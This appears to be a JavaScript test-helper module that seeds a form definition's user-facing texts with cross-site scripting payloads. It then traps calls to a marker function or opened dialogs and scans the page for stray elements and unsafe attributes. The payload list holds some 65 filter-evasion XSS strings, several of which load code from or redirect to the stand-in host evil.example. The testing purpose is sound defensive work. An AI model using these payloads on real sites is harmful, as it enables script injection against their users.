// What an attacker writes where words are expected. Each payload, were it ever read as markup or as a script, would call
// `pwned`, open a dialog, ask an address for something, or leave an element that has no business there.

/** Characters that browsers or tests fold away are written as escapes; `⟦` marks nothing. */
export const PAYLOADS = [
  "<script>pwned(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "</script><script>pwned(2)</script>",
  "<img src=x onerror=pwned(3)>",
  "<img/src='x'/onerror=pwned(4)>",
  "<img src=x:x onerror\u000c=pwned(5)>",
  "<svg onload=pwned(6)>",
  "<svg><script>pwned(7)</script></svg>",
  "<svg><animate onbegin=pwned(8) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:pwned(9)'><text y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe src=javascript:pwned(10)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned(11)></style></mglyph></table></mtext></math>",
  "<body onload=pwned(12)>",
  "<iframe src=javascript:pwned(13)></iframe>",
  "<iframe srcdoc='<script>parent.pwned(14)</script>'></iframe>",
  "<object data=javascript:pwned(15)></object>",
  "<embed src=data:text/html,<script>pwned(16)</script>>",
  "<a href=javascript:pwned(17)>x</a>",
  "<a href='&#106;avascript:pwned(18)'>x</a>",
  "<a href='java\tscript:pwned(19)'>x</a>",
  "<form action=javascript:pwned(20)><button>x</button></form>",
  "<button formaction=javascript:pwned(21)>x</button>",
  "<input autofocus onfocus=pwned(22)>",
  "<details open ontoggle=pwned(23)><summary>x</summary></details>",
  "<video><source onerror=pwned(24)></video>",
  "<audio src=x onerror=pwned(25)>",
  "<marquee onstart=pwned(26)>x</marquee>",
  "<style>@import'//evil.example/x.css';*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<template><img src=x onerror=pwned(27)></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=pwned(28)>\">",
  "<listing>&lt;img src=x onerror=pwned(29)&gt;</listing>",
  "<!--><img src=x onerror=pwned(30)>-->",
  "<![CDATA[><img src=x onerror=pwned(31)>]]>",
  "<x contenteditable onblur=pwned(32)>x</x>",
  "\" onmouseover=\"pwned(33)",
  "' onfocus='pwned(34)' autofocus='",
  "\"><img src=x onerror=pwned(35)>",
  "--><img src=x onerror=pwned(36)><!--",
  "]]><img src=x onerror=pwned(37)>",
  "</textarea><img src=x onerror=pwned(38)>",
  "</title><script>pwned(39)</script>",
  "</option></select><img src=x onerror=pwned(40)>",
  "</style><script>pwned(41)</script>",
  "</template></div></main><script>pwned(42)</script>",
  "javascript:pwned(43)",
  "JaVaScRiPt\u0003:pwned(44)",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCg0NSk8L3NjcmlwdD4=",
  "{{constructor.constructor('pwned(46)')()}}",
  "${pwned(47)}",
  "<%= pwned(48) %>",
  "#{pwned(49)}",
  "[[${pwned(50)}]]",
  "'-pwned(51)-'",
  "\";pwned(52);//",
  "`${pwned(53)}`",
  "\\u003cimg src=x onerror=pwned(54)\\u003e",
  "&lt;img src=x onerror=pwned(55)&gt;",
  "&#60;img src=x onerror=pwned(56)&#62;",
  "%3Cimg%20src%3Dx%20onerror%3Dpwned(57)%3E",
  "＜script＞pwned(58)＜/script＞",
  "<scr\u0000ipt>pwned(59)</scr\u0000ipt>",
  "<img src=x onerror=pwned(60)\u0000>",
  "\u202e<tpircs>(16)denwp</tpircs>",
  "<a href=x\u2028onclick=pwned(62)>",
  "<img\u00a0src=x onerror=pwned(63)>",
  "+ADw-script+AD4-pwned(64)+ADw-/script+AD4-",
  "\ud835\udc4e<script>pwned(65)</script>",
  "__proto__",
  "constructor",
];

/** Those a browser shows character for character, wherever they stand. */
export const PLAIN = PAYLOADS.filter((payload) => !/[\u0000-\u001f\u00a0\u2028\u202e]/.test(payload));

/** Keys of a definition whose texts are for people. */
const TEXTS = new Set(["title", "label", "hint", "intro", "why", "purpose", "missing", "statement", "say", "add", "item", "p", "number", "unit", "name", "region", "script", "note", "restate", "have"]);

/**
 * A definition with a payload at the end of every text, each with a number of its own: `{ definition, written }`, the
 * texts as they must be read. A text keeps what was before the payload only when it must (`{n}` in a row's title).
 */
export function poisoned(definition, payloads = PLAIN) {
  const written = [];
  const poison = (text) => {
    const payload = `${payloads[written.length % payloads.length]} ${written.length}`;
    const whole = text.includes("{n}") ? `${payload} {n}` : payload;
    written.push(whole);
    return whole;
  };
  const walk = (value, key) => {
    if (typeof value === "string") return TEXTS.has(key) ? poison(value) : value;
    if (Array.isArray(value)) return key === "list" ? value.map((item) => (typeof item === "string" ? poison(item) : walk(item, "p"))) : value.map((item) => walk(item, key));
    if (!value || typeof value !== "object") return value;
    if (typeof value.fr === "string" && typeof value.en === "string") {
      const text = poison(value.fr);
      return { fr: text, en: text };
    }
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, walk(inner, name)]));
  };
  return { definition: walk(definition, ""), written };
}

/** Every string of a definition that is not a text for people, with a way to put another in its place: `{ at, put }`. */
export function structural(definition) {
  const found = [];
  const walk = (value, at, key, put) => {
    if (typeof value === "string") {
      if (!TEXTS.has(key)) found.push({ at, put });
      return;
    }
    if (!value || typeof value !== "object" || (typeof value.fr === "string" && typeof value.en === "string")) return;
    for (const [name, inner] of Object.entries(value)) {
      walk(inner, `${at}/${name}`, Array.isArray(value) ? key : name, (other) => {
        value[name] = other;
        return () => (value[name] = inner);
      });
    }
  };
  walk(definition, "", "", () => () => {});
  return found;
}

/** Set in the page before it goes anywhere: whoever calls `pwned`, or opens a dialog, is written down. */
export async function trap(page) {
  const sprung = [];
  page.on("dialog", (dialog) => {
    sprung.push(`${dialog.type()}: ${dialog.message()}`);
    return dialog.dismiss();
  });
  await page.exposeFunction("sprung", (what) => sprung.push(what));
  await page.addInitScript(() => {
    globalThis.pwned = (number) => globalThis.sprung(`payload ${number}`);
    for (const name of ["alert", "confirm", "prompt", "open"]) {
      const real = globalThis[name];
      globalThis[name] = (...args) => {
        globalThis.sprung(`${name}(${args})`);
        return real.apply(globalThis, args);
      };
    }
  });
  return sprung;
}

/** What stands in the form and has no business there: elements, attributes and addresses. */
export const strangers = (page) =>
  page.evaluate(() => {
    const KNOWN = new Set(("div span p a h1 h2 h3 h4 h5 h6 ul ol li dl dt dd form fieldset legend label input select option optgroup textarea button datalist slot header nav section svg path circle rect g details summary table caption thead tbody tr th td strong time").split(" "));
    const faults = [];
    const look = (root, inside) => {
      for (const node of root.querySelectorAll("*")) {
        const name = node.localName;
        if (inside && !KNOWN.has(name)) faults.push(`<${name}>`);
        for (const { name: attribute, value } of node.attributes) {
          if (/^on/i.test(attribute)) faults.push(`<${name} ${attribute}>`);
          if (inside && ["style", "srcdoc", "src", "formaction", "action", "xlink:href", "background", "poster", "ping"].includes(attribute)) faults.push(`<${name} ${attribute}=${value}>`);
          if (attribute === "href" && !/^(tel:\+?[0-9;=ext]+|#|\/|https:\/\/[a-z0-9.-]+([/?#]|$))/.test(value)) faults.push(`<${name} href=${value}>`);
        }
        if (node.shadowRoot) look(node.shadowRoot, true);
      }
    };
    look(document, false);
    const evil = [...document.querySelectorAll("script, link, iframe, base, meta[http-equiv]")].filter((node) => /evil|javascript:/.test(node.outerHTML));
    return [...new Set([...faults, ...evil.map((node) => node.outerHTML)])];
  });
